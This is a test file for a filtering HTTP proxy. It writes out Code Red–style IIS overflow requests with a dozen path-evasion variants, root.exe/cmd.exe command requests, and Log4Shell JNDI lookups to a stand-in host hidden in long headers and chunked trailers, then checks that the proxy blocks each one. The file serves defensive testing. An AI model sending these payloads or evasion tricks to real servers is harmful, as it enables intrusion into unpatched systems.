import { strict as assert } from 'node:assert';
import { startOrigin, type Origin } from '../helpers/origin.js';
import { startProxy, type TestProxy } from '../helpers/proxy.js';
import { rawRequest, statusOf } from '../helpers/raw-http.js';
import { startRawOrigin, type RawOrigin } from '../helpers/raw-origin.js';

const N = 'N'.repeat(224);
const TAIL = '%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u00=a';

/** Targets an IIS origin still resolves to /default.ida or root.exe/cmd.exe (issue 9, section 3). */
const EVASIONS: Record<string, string> = {
  'dot segment': `/./default.ida?${N}${TAIL}`,
  'dot-dot segment': `/x/../default.ida?${N}${TAIL}`,
  'encoded dot segments and letter': `/scripts/%2e%2e/%2E/default.%69da?${N}${TAIL}`,
  'double-encoded dot segment': `/a/%252e%252e/default.ida?${N}${TAIL}`,
  'backslash dot segment': `/a\\..\\default.ida?${N}${TAIL}`,
  'NTFS stream name': `/default.ida::$DATA?${N}${TAIL}`,
  'trailing dot': `/default.ida.?${N}${TAIL}`,
  'path info': `/default.ida/anything.htm?${N}${TAIL}`,
  'root.exe with stream name and encoded letter': '/scripts/r%6fot.exe::$DATA?/c+dir',
  'root.exe with path info': '/MSADC/root.exe/x?/c+dir',
  'cmd.exe with trailing dot and path info': '/scripts/cmd.exe./y?/c+dir',
};

describe('proxy: block-mode evasions an IIS origin would still resolve', () => {
  let origin: Origin;
  let proxy: TestProxy;

  before(async () => {
    origin = await startOrigin();
    proxy = await startProxy({ upstream: origin.url, mode: 'block' });
  });
  after(async () => {
    await proxy.close();
    await origin.close();
  });
  beforeEach(() => {
    origin.requests.length = 0;
  });

  for (const [name, target] of Object.entries(EVASIONS)) {
    it(`blocks ${name}`, async () => {
      const answer = await rawRequest(proxy.port, `GET ${target} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`);
      assert.equal(statusOf(answer), 403, answer.slice(0, 200));
      assert.equal(origin.requests.length, 0);
    });
  }

  it('refuses a target longer than the matcher reads (a harmless 9 KiB prefix, then /../default.ida) with 414', async () => {
    const target = `/${'a'.repeat(9 * 1024)}/../default.ida?${N}${TAIL}`;
    const answer = await rawRequest(proxy.port, `GET ${target} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`);
    assert.equal(statusOf(answer), 414);
    assert.match(answer, /ERR_TARGET_TOO_LONG/);
    assert.equal(origin.requests.length, 0);
  });

  it('reads a 9 KiB header value whole, so a Log4Shell payload at its end is blocked', async () => {
    const answer = await rawRequest(proxy.port, `GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: ${'a'.repeat(9 * 1024)}\${jndi:ldap://192.0.2.1/a}\r\nConnection: close\r\n\r\n`);
    assert.equal(statusOf(answer), 403);
    assert.equal(origin.requests.length, 0);
  });

  it('still forwards ordinary requests with dots, colons and long targets under the limit', async () => {
    for (const target of ['/.well-known/security.txt', '/wiki/Special:Search?q=a.b', '/a/./b/../c.html', `/q?${'x'.repeat(7000)}`]) {
      const answer = await rawRequest(proxy.port, `GET ${target} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`);
      assert.equal(statusOf(answer), 200, target);
    }
    // The origin gets the bytes the client sent, not the resolved path.
    assert.deepEqual(origin.requests.map((r) => r.url.slice(0, 40)), ['/.well-known/security.txt', '/wiki/Special:Search?q=a.b', '/a/./b/../c.html', `/q?${'x'.repeat(37)}`]);
  });
});

describe('proxy: header fields after the body (request trailers)', () => {
  let origin: RawOrigin;
  let proxy: TestProxy;

  before(async () => {
    origin = await startRawOrigin();
    proxy = await startProxy({ upstream: origin.url, mode: 'block' });
  });
  after(async () => {
    await proxy.close();
    await origin.close();
  });

  it('never reach the origin: a Log4Shell sent as a trailer, after the headers were judged, cannot walk past block mode', async () => {
    const answer = await rawRequest(proxy.port, 'POST /t HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nTrailer: X-Api-Version\r\n\r\n' +
      '5\r\nhello\r\n0\r\nX-Api-Version: ${jndi:ldap://192.0.2.1/a}\r\n\r\nGET /next HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n');
    assert.deepEqual(answer.match(/^HTTP\/1\.1 \d+/gm), ['HTTP/1.1 200', 'HTTP/1.1 200'], 'both requests answered, in order');
    const bytes = origin.connections.map((c) => Buffer.concat(c.raw).toString('latin1')).join('');
    assert.doesNotMatch(bytes, /jndi|x-api-version/i, 'the trailer was not forwarded');
    assert.match(bytes, /\r\n5\r\nhello\r\n0\r\n\r\n/, 'the body went, framed, with an empty trailer section');
    assert.deepEqual(origin.requests.map((r) => r.target), ['/t', '/next']);
  });
});

describe('proxy: a long target in monitor mode', () => {
  it('is forwarded, not refused (the 414 is block mode only)', async () => {
    const origin = await startOrigin();
    const proxy = await startProxy({ upstream: origin.url, mode: 'monitor' });
    try {
      const answer = await rawRequest(proxy.port, `GET /${'a'.repeat(9 * 1024)} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`);
      assert.equal(statusOf(answer), 200);
      assert.equal(origin.requests.length, 1);
    } finally {
      await proxy.close();
      await origin.close();
    }
  });
});
